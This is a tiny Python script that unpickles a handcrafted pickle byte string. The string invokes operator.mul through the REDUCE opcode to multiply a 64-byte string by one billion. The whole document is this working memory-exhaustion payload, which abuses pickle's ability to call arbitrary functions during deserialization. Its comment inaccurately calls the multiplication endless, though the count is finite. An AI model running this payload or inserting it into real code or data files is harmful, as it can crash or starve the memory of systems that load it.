import pickle

# Memorise a text of 64 bytes, then multiply it without end: REDUCE of operator.mul.
pickle.loads(b"coperator\nmul\n(V" + b"x" * 64 + b"\nI1000000000\ntR.")
